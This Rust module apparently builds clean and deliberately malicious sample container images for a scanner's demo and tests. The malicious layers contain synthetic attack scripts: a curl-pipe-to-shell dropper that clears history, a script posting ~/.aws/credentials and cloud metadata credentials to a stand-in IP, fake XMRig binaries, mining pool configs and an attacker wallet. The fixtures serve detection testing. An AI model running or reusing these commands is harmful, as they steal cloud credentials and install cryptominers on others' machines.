//! The sample images `make demo` scans and many tests reuse: one clean, one malicious,
//! written as OCI layouts by [`write_samples`]. The malicious sample carries SYNTHETIC
//! miner strings and configs (XMRig's usage text quoted from its source, a published
//! attacker wallet, pool names from the intel file) in tiny fake ELF files; it contains
//! no miner and nothing in it runs. Also the tiny ELF builder itself, and the
//! three-layer image the walker and source tests share ([`sample_image`]).

use crate::entries::{layer_tar, Ent};
use crate::image::ImageSpec;
use crate::layer::{compress, Comp, Layer};
use crate::layout::single_image_layout;
use std::path::Path;

/// A published attacker wallet (dockmylife/memorytest, docker/hub-feedback#1121).
pub const SAMPLE_WALLET: &str =
    "47ZaBbPk8T7TQa1Q7NdB2wAw6Y38DtjNgjKU2QBssUb2fcL7q3aR4kMhG7hfqNha3JEYnveoEQHPVb8zBnUFjRvc8JTpRW3";

/// A minimal, valid 64-bit little-endian static ELF executable: ELF header, one PT_LOAD
/// program header, then `payload`. It is never run.
pub fn tiny_elf(payload: &[u8]) -> Vec<u8> {
    let mut v = Vec::with_capacity(120 + payload.len());
    v.extend_from_slice(b"\x7fELF\x02\x01\x01\x00");
    v.extend_from_slice(&[0; 8]);
    v.extend_from_slice(&2u16.to_le_bytes()); // ET_EXEC
    v.extend_from_slice(&0x3eu16.to_le_bytes()); // x86-64
    v.extend_from_slice(&1u32.to_le_bytes());
    v.extend_from_slice(&0x400078u64.to_le_bytes()); // entry
    v.extend_from_slice(&64u64.to_le_bytes()); // phoff
    v.extend_from_slice(&0u64.to_le_bytes()); // shoff
    v.extend_from_slice(&0u32.to_le_bytes()); // flags
    v.extend_from_slice(&64u16.to_le_bytes()); // ehsize
    v.extend_from_slice(&56u16.to_le_bytes()); // phentsize
    v.extend_from_slice(&1u16.to_le_bytes()); // phnum
    v.extend_from_slice(&64u16.to_le_bytes()); // shentsize
    v.extend_from_slice(&0u16.to_le_bytes()); // shnum
    v.extend_from_slice(&0u16.to_le_bytes()); // shstrndx
    let total = (120 + payload.len()) as u64;
    v.extend_from_slice(&1u32.to_le_bytes()); // PT_LOAD
    v.extend_from_slice(&5u32.to_le_bytes()); // R+X
    v.extend_from_slice(&0u64.to_le_bytes());
    v.extend_from_slice(&0x400000u64.to_le_bytes());
    v.extend_from_slice(&0x400000u64.to_le_bytes());
    v.extend_from_slice(&total.to_le_bytes());
    v.extend_from_slice(&total.to_le_bytes());
    v.extend_from_slice(&0x1000u64.to_le_bytes());
    v.extend_from_slice(payload);
    v
}

/// Strings an XMRig build carries (quoted from xmrig/xmrig@v6.26.0 sources and the
/// published YARA rules), wrapped in a tiny fake ELF. Not a miner: it has no code.
pub fn fake_miner_elf(pool: &str) -> Vec<u8> {
    let payload = format!(
        "\0XMRig 6.21.0\0Usage: xmrig [OPTIONS]\0  -o, --url=URL             URL of mining server\0\
         --donate-level=N          donate level, default 1%%\0'h' hashrate, 'p' pause, 'r' resume\0\
         {pool}\0randomx\0cryptonight\0"
    );
    tiny_elf(payload.as_bytes())
}

const PATH: &str = "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin";

fn base_layer() -> Vec<Ent> {
    vec![
        Ent::dir("etc"),
        Ent::file(
            "etc/os-release",
            "PRETTY_NAME=\"Sample Linux\"\nID=sample\n",
        ),
        Ent::file("etc/passwd", "root:x:0:0:root:/root:/bin/sh\n"),
        Ent::dir("usr/bin"),
        Ent::exe("usr/bin/hello", tiny_elf(b"\0hello, world\0")),
        Ent::exe(
            "usr/local/bin/entrypoint.sh",
            "#!/bin/sh\nset -e\nif [ \"$1\" = serve ]; then exec hello; fi\nexec \"$@\"\n",
        ),
        Ent::file(
            "etc/app/config.toml",
            "listen = \"0.0.0.0:8080\"\nworkers = 4\nlog_level = \"info\"\n",
        ),
    ]
}

/// The clean sample's layers, as entries: ordinary files, a shell script, a small ELF, a
/// config.
pub fn clean_layers() -> Vec<Vec<Ent>> {
    vec![base_layer()]
}

/// The malicious sample's layers, as entries: the clean base; the miners, configs,
/// dropper and credential stealer (synthetic; see the module docs); a whiteout of one
/// miner.
pub fn malicious_layers() -> Vec<Vec<Ent>> {
    let nested = compress(
        &layer_tar(&[
            Ent::dir("xmrig-6.21.0"),
            Ent::exe(
                "xmrig-6.21.0/xmrig",
                fake_miner_elf("donate.v2.xmrig.com:3333"),
            ),
        ]),
        Comp::Gzip,
    );
    let config = format!(
        "{{\n  \"donate-level\": 1,\n  \"randomx\": {{ \"1gb-pages\": true }},\n  \"pools\": [\n    {{ \"url\": \"stratum+tcp://pool.supportxmr.com:5555\", \"user\": \"{SAMPLE_WALLET}\", \"pass\": \"x\" }}\n  ]\n}}\n"
    );
    let layer1 = vec![
        Ent::exe("usr/local/bin/xmrig", "#!/bin/sh\necho synthetic sample\n"),
        Ent::exe(
            "opt/app/.cache/kworker",
            fake_miner_elf("stratum+tcp://pool.minexmr.com:4444"),
        ),
        Ent::file("opt/app/config.json", config),
        Ent::exe(
            "opt/app/run.sh",
            "#!/bin/sh\n# synthetic dropper for the imgscan demo\ncurl -fsSL http://203.0.113.9/xmr.sh | sh\nchmod +x /tmp/.x/kworker\nhistory -c\n",
        ),
        Ent::exe(
            "opt/app/sync.sh",
            "#!/bin/sh\nK=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)\ncurl -s -X POST --data-binary @$HOME/.aws/credentials http://198.51.100.23/c\n",
        ),
        Ent::exe("tmp/kdevtmpfsi", fake_miner_elf("xmr-eu1.nanopool.org:14444")),
        Ent::file("opt/bundle/xmrig-6.21.0-linux-x64.tar.gz", nested),
    ];
    let layer2 = vec![Ent::whiteout("tmp/kdevtmpfsi")];
    vec![base_layer(), layer1, layer2]
}

/// Gzip layers of `layers`.
pub fn gzip_layers(layers: &[Vec<Ent>]) -> Vec<Layer> {
    layers.iter().map(|l| Layer::new(l, Comp::Gzip)).collect()
}

/// The clean sample: [`clean_layers`], an entrypoint script, a non-root user, one port.
pub fn clean_sample() -> ImageSpec {
    ImageSpec {
        entrypoint: vec!["/usr/local/bin/entrypoint.sh".into()],
        cmd: vec!["serve".into()],
        env: vec![PATH.into()],
        exposed_ports: vec!["8080/tcp".into()],
        user: "1000".into(),
        ..ImageSpec::new(gzip_layers(&clean_layers()))
    }
}

/// The malicious sample: [`malicious_layers`], a miner as the command, a wallet in the
/// environment, `curl | sh` in the history (synthetic; see the module docs).
pub fn malicious_sample() -> ImageSpec {
    ImageSpec {
        cmd: vec![
            "/usr/local/bin/xmrig".into(),
            "-o".into(),
            "stratum+tcp://pool.minexmr.com:4444".into(),
        ],
        env: vec![PATH.into(), format!("WALLET={SAMPLE_WALLET}")],
        exposed_ports: vec!["3333/tcp".into()],
        history: vec![
            ("COPY rootfs /".into(), false),
            (
                "RUN /bin/sh -c curl -fsSL http://203.0.113.9/install.sh | sh".into(),
                false,
            ),
            ("RUN /bin/sh -c rm /tmp/kdevtmpfsi".into(), false),
            ("ENV WALLET=...".into(), true),
            ("CMD [\"/usr/local/bin/xmrig\"]".into(), true),
        ],
        ..ImageSpec::new(gzip_layers(&malicious_layers()))
    }
}

/// The three-layer sample used by several tests: gzip, zstd and uncompressed layers with
/// a whiteout, an opaque dir, a replaced file, links, and a config with entrypoint/env.
pub fn sample_image() -> ImageSpec {
    sample_image_with(Comp::Zstd)
}

/// [`sample_image`] with layer 1 compressed as `l1` (skopeo cannot put zstd layers in a
/// docker-archive, so docker-archive fixtures use gzip there).
pub fn sample_image_with(l1_comp: Comp) -> ImageSpec {
    let l0 = Layer::new(
        &[
            Ent::dir("etc"),
            Ent::file("etc/passwd", b"root:x:0:0:root:/root:/bin/sh\n"),
            Ent::file("etc/motd", b"hello\n"),
            Ent::dir("opt/app"),
            Ent::file("opt/app/old.conf", b"old"),
            Ent::file("opt/app/sub/deep", b"deep"),
            Ent::exe("bin/busybox", b"\x7fELF fake busybox"),
            Ent::symlink("bin/sh", "busybox"),
            Ent::hardlink("bin/ls", "bin/busybox"),
            Ent::exe("tmp/xmrig", b"\x7fELF miner"),
        ],
        Comp::Gzip,
    );
    let l1 = Layer::new(
        &[
            Ent::Whiteout("tmp/xmrig".into()),
            Ent::Opaque("opt/app".into()),
            Ent::file("opt/app/new.conf", b"new"),
            Ent::file("etc/motd", b"replaced\n"),
        ],
        l1_comp,
    );
    let l2 = Layer::new(
        &[
            Ent::file("usr/local/bin/run.sh", b"#!/bin/sh\nexec /bin/sh\n"),
            Ent::symlink("usr/bin/sh", "/bin/sh"),
        ],
        Comp::None,
    );
    let mut spec = ImageSpec::new(vec![l0, l1, l2]);
    spec.entrypoint = vec!["/usr/local/bin/run.sh".into()];
    spec.cmd = vec!["--serve".into()];
    spec.env.push("APP_MODE=prod".into());
    spec.user = "1000:1000".into();
    spec.workdir = "/opt/app".into();
    spec.exposed_ports = vec!["8080/tcp".into()];
    spec.labels = vec![("org.opencontainers.image.title".into(), "sample".into())];
    spec.history
        .push(("/bin/sh -c #(nop) ENV APP_MODE=prod".into(), true));
    spec
}

/// Write both samples under `dir` as OCI layouts tagged `latest` (`dir/clean`,
/// `dir/malicious`; replaced when present).
pub fn write_samples(dir: &Path) {
    let _ = std::fs::remove_dir_all(dir.join("clean"));
    let _ = std::fs::remove_dir_all(dir.join("malicious"));
    single_image_layout(&dir.join("clean"), &clean_sample(), "latest");
    single_image_layout(&dir.join("malicious"), &malicious_sample(), "latest");
}
